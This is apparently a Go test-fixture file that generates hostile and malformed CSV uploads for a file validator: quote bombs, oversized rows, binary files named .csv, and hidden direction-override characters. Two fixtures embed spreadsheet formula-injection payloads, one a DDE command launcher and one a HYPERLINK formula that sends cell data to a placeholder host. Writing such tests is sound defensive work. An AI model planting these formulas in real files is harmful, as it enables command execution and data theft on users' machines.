package hostile

import (
	"encoding/binary"
	"strings"
)

// tableCSV is a small table in order.
const tableCSV = `项目编码,项目名称,主管部门,实施单位,年度,一级指标,二级指标,三级指标,年度指标值,实际完成值
P01,村道养护经费,青岚县交通运输局,青岚县公路站,2025,产出指标,数量指标,养护里程,≥50公里,48公里
P01,村道养护经费,青岚县交通运输局,青岚县公路站,2025,产出指标,质量指标,验收合格率,≥95%,100%
P01,村道养护经费,青岚县交通运输局,青岚县公路站,2025,满意度指标,服务对象满意度指标,村民满意度,≥90%,93%
`

// altered is the table with one text replaced by another.
func altered(from, to string) func() []byte { return bytesOf(strings.Replace(tableCSV, from, to, 1)) }

func csvHeader() string { return tableCSV[:strings.IndexByte(tableCSV, '\n')+1] }

// csv lists files that are, or say that they are, tables of separated values.
func csv() []File {
	return []File{
		{Name: "empty.csv", About: "no bytes", Data: bytesOf(""), Code: "file_empty"},
		{Name: "commas.csv", About: "only separators", Data: repeated(",,,\n", 1000), Code: "file_no_cells"},
		{Name: "header-only.csv", About: "no row below the headers", Data: bytesOf(csvHeader()), Code: Nothing},
		{Name: "blank-rows.csv", About: "only blank rows below the headers", Data: func() []byte { return []byte(csvHeader() + strings.Repeat(",,,,,,,,,\n", 5_000)) }, Code: Nothing},
		{Name: "wrong-headers.csv", About: "headers of another table", Data: bytesOf("姓名,工号,部门\n张三,1,财务\n李四,2,人事\n"), Code: WrongHeaders},
		{Name: "program.csv", About: "a program called a table", Data: bytesOf("MZ\x90\x00\x03" + strings.Repeat("\x00", 500)), Code: "file_binary"},
		{Name: "archive.csv", About: "a compressed file called a table", Data: bytesOf("\x1f\x8b\x08\x00" + strings.Repeat("\x05", 500)), Code: "file_binary"},
		{Name: "random.csv", About: "bytes without any order", Data: noise, Code: "file_not_text"},
		{Name: "nul.csv", About: "a zero byte in a number", Data: altered("48公里", "4\x008公里"), Code: "file_not_text"},
		{Name: "nuls.csv", About: "a table with a zero byte behind every character", Data: bytesOf("a\x00,\x00b\x00\n\x001\x00,\x002\x00\n\x00"), Code: "file_not_text"},
		{Name: "mixed.csv", About: "a table put together of two encodings", Data: mixedCSV, Code: "file_mixed"},
		{Name: "utf16.csv", About: "UTF-16 without a mark, the bytes in the other order", Data: bytesOf(wide(tableCSV, binary.BigEndian))},
		{Name: "open-quote.csv", About: "a quotation mark that would swallow the rest", Data: altered("养护里程", `"养护里程`), Issue: "csv-quote"},
		{Name: "stray-quote.csv", About: "a quotation mark that closes too early", Data: altered("养护里程", `"养护"里程`), Issue: "csv-quote"},
		{Name: "ragged.csv", About: "a separator that was not quoted", Data: altered("≥50公里", "≥50,000公里"), Issue: "csv-ragged"},
		{Name: "million-quotes.csv", About: "only quotation marks", Data: func() []byte { return []byte(csvHeader() + strings.Repeat(`"`, 3_000_001)) }, Code: "file_too_large"},
		{Name: "quote-bomb.csv", About: "a quotation that opens in every field and never closes", Data: func() []byte { return []byte(csvHeader() + strings.Repeat(`"a,""b,`, 4_000_000)) }, Code: "file_too_large"},
		{Name: "quote-lines.csv", About: "an open quotation in each of 400,000 lines", Data: func() []byte { return []byte(csvHeader() + strings.Repeat("\"\"\"a,b\n", 400_000)) }, Code: "file_too_large"},
		{Name: "million-commas.csv", About: "a row of a million fields", Data: func() []byte { return []byte(tableCSV + strings.Repeat(",", 1_000_000)) }, Code: "file_too_large"},
		{Name: "million-rows.csv", About: "more rows than any table", Data: func() []byte { return []byte(csvHeader() + strings.Repeat("P,a,b,c,2025,d,e,f,g,h\n", 1_000_000)) }, Code: "file_too_large"},
		{Name: "long-field.csv", About: "a field of 2 MB with line breaks", Data: func() []byte {
			return []byte(tableCSV + `P01,"` + strings.Repeat("长\n", 500_000) + `",a,b,2025,c,d,e,f,g` + "\n")
		}, Code: "file_too_large"},
		{Name: "large.csv", About: "70 MB of rows", Data: repeated("P01,村道养护经费,青岚县交通运输局,2025,产出指标,数量指标,养护里程,≥50公里\n", 70<<20/99), Code: "file_too_large"},
		{Name: "formula.csv", About: "a command for a spreadsheet program as a name", Data: altered("养护里程", `"=cmd|' /C calc'!A0"`)},
		{Name: "link.csv", About: "a formula that would send the table away", Data: altered("养护里程", `"=HYPERLINK(""http://example.invalid/?""&A1,""x"")"`)},
		{Name: "kept-zeros.csv", About: "codes guarded by a formula", Data: altered("P01", `="0012"`)},
		{Name: "declared.csv", About: "a first line that declares the separator", Data: bytesOf("sep=;\r\n" + strings.ReplaceAll(tableCSV, ",", ";"))},
		{Name: "declared-wrongly.csv", About: "a first line that declares another separator", Data: bytesOf("sep=;\r\n" + tableCSV), Code: WrongHeaders},
		{Name: "right-to-left.csv", About: "a control that turns the number round", Data: altered("48公里", "\u202e84公里"), Issue: "invisible-characters"},
		{Name: "huge-numbers.csv", About: "an amount of a thousand digits", Data: altered("≥50公里", "≥"+strings.Repeat("9", 1000)+"公里"), Issue: Any},
	}
}

func mixedCSV() []byte {
	return []byte(strings.Repeat("\xcf\xee\xc4\xbf\xc3\xfb\xb3\xc6,\xbc\xd7\n", 200) + tableCSV)
}

// noise is bytes by a rule that repeats nothing for long.
func noise() []byte {
	data := make([]byte, 200_000)
	state := uint32(2025)
	for i := range data {
		state = state*1_664_525 + 1_013_904_223
		data[i] = byte(state >> 24)
	}
	return data
}
